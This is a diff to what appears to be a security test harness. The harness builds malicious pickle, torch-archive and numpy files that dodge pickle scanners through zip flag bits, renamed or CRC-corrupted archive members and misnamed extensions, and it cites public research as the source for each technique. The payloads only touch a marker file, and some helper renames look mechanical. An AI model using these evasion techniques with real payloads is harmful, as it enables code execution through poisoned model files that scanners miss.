@@ -22,15 +22,15 @@ Sources (each technique names its own):
 
 from __future__ import annotations
 
-import io
 import lzma
 import pickle
 import struct
-import zipfile
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
+
+from builders.pickle_opcodes import call, cmd, code, glob, p4, su, system_p0, zip_of
 
 PICKLESCAN = "picklescan tests/init_data_files.py"
 
@@ -82,45 +82,6 @@ def data_technique(id: str, source: str, data: Callable[[Path], bytes], loader: 
 
 
 # --- opcode helpers -------------------------------------------------------------------------------
-
-def su(text: str) -> bytes:
-    """SHORT_BINUNICODE / BINUNICODE."""
-    raw = text.encode()
-    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw
-
-
-def glob(module: str, name: str) -> bytes:
-    """STACK_GLOBAL (protocol 4)."""
-    return su(module) + su(name) + b"\x93"
-
-
-def call(func: bytes, *args: bytes) -> bytes:
-    return func + b"(" + b"".join(args) + b"tR"
-
-
-def p4(body: bytes) -> bytes:
-    return b"\x80\x04" + body + b"."
-
-
-def cmd(marker: Path) -> str:
-    return f"touch {marker}"
-
-
-def code(marker: Path) -> str:
-    return f"open({str(marker)!r}, 'w').close()"
-
-
-def system_p0(marker: Path) -> bytes:
-    return b"cposix\nsystem\n(V" + cmd(marker).encode() + b"\ntR."
-
-
-def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", compression) as z:
-        for name, data in members.items():
-            z.writestr(name, data)
-    return buf.getvalue()
-
 
 def _set_flags(raw: bytes, bits: int) -> bytes:
     """OR ``bits`` into every local and central header's general purpose flags."""
@@ -221,29 +182,29 @@ data_technique("nullifAI-broken-pickle", "ReversingLabs nullifAI (2025-02): payl
 
 @technique("nullifAI-broken-data.pkl-in-torch-zip", "ReversingLabs nullifAI: the broken pickle in a "
            "torch archive", TORCH_LOAD, ".pt", slow=True)
-def nullifai_zip(path: Path, marker: Path) -> None:
-    path.write_bytes(_zip({"archive/data.pkl": nullifai(marker), "archive/version": b"3\n",
+def nullifaizip_of(path: Path, marker: Path) -> None:
+    path.write_bytes(zip_of({"archive/data.pkl": nullifai(marker), "archive/version": b"3\n",
                            "archive/byteorder": b"little"}))
 
 
 # --- zip archives (picklescan's zip fixtures; JFrog CVE-2025-10156) --------------------------------
 
-def _flagged_zip(bits: int) -> Callable[[Path, Path], None]:
+def _flaggedzip_of(bits: int) -> Callable[[Path, Path], None]:
     def build(path: Path, marker: Path) -> None:
-        path.write_bytes(_set_flags(_zip({"archive/data.pkl": exec_pickle(marker)}), bits))
+        path.write_bytes(_set_flags(zip_of({"archive/data.pkl": exec_pickle(marker)}), bits))
     return build
 
 
 for _bits, _what in ((0x1, "encrypted"), (0x20, "compressed patched data"), (0x40, "strong encryption")):
     T.append(Technique(f"zip-flag-0x{_bits:x}-{_what.replace(' ', '-')}",
                        f"{PICKLESCAN} malicious1_0x{_bits:x}.zip (a streaming unzip ignores the flag)",
-                       _flagged_zip(_bits), LOAD_STREAMING, ".pt"))
+                       _flaggedzip_of(_bits), LOAD_STREAMING, ".pt"))
 
 
 @technique("zip-central-directory-renames-data.pkl", f"{PICKLESCAN} malicious1_central_directory.zip",
            LOAD_STREAMING, ".pt")
 def zip_central_rename(path: Path, marker: Path) -> None:
-    raw = _zip({"data.pkl": exec_pickle(marker)})
+    raw = zip_of({"data.pkl": exec_pickle(marker)})
     cd = raw.rfind(b"PK\x01\x02")
     path.write_bytes(raw[:cd] + raw[cd:].replace(b"data.pkl", b"datap.kl", 1))
 
@@ -252,7 +213,7 @@ def zip_central_rename(path: Path, marker: Path) -> None:
            ".pt", slow=True)
 def zip_crc(path: Path, marker: Path) -> None:
     good = exec_pickle(marker)
-    raw = _zip({"archive/data.pkl": good, "archive/version": b"3\n", "archive/byteorder": b"little"})
+    raw = zip_of({"archive/data.pkl": good, "archive/version": b"3\n", "archive/byteorder": b"little"})
     pos = raw.find(b"PK\x01\x02")  # the central record of data.pkl: its CRC (offset 16), and the local's
     crc = struct.unpack_from("<I", raw, pos + 16)[0] ^ 0x5A5A5A5A
     out = bytearray(raw)
@@ -263,7 +224,7 @@ def zip_crc(path: Path, marker: Path) -> None:
 
 @technique("zip-pickle-member-named-.txt", f"{PICKLESCAN} malicious1_wrong_ext.zip", LOAD_MEMBERS, ".zip")
 def zip_wrong_ext(path: Path, marker: Path) -> None:
-    path.write_bytes(_zip({"data.txt": exec_pickle(marker)}))
+    path.write_bytes(zip_of({"data.txt": exec_pickle(marker)}))
 
 
 # --- numpy ----------------------------------------------------------------------------------------
@@ -287,13 +248,13 @@ data_technique("npy-version-3.0-object-array", "numpy.lib.format: version 3.0 (u
 @technique("npz-member-without-.npy-suffix", "numpy NpzFile.__getitem__: any member with the .npy magic "
            "is read_array'd", NUMPY_LOAD, ".npz")
 def npz_no_suffix(path: Path, marker: Path) -> None:
-    path.write_bytes(_zip({"weights": _object_npy(marker)}))
+    path.write_bytes(zip_of({"weights": _object_npy(marker)}))
 
 
 @technique("numpy-empty-zip-record-first", "numpy.load opens a file starting PK\\x05\\x06 (_ZIP_SUFFIX) "
            "as an archive; zipfile finds the real one from the end", NUMPY_LOAD, ".npz")
 def npz_eocd_first(path: Path, marker: Path) -> None:
-    path.write_bytes(b"PK\x05\x06" + b"\x00" * 18 + _zip({"w.npy": _object_npy(marker)}))
+    path.write_bytes(b"PK\x05\x06" + b"\x00" * 18 + zip_of({"w.npy": _object_npy(marker)}))
 
 
 # --- compression ------------------------------------------------------------------------------------
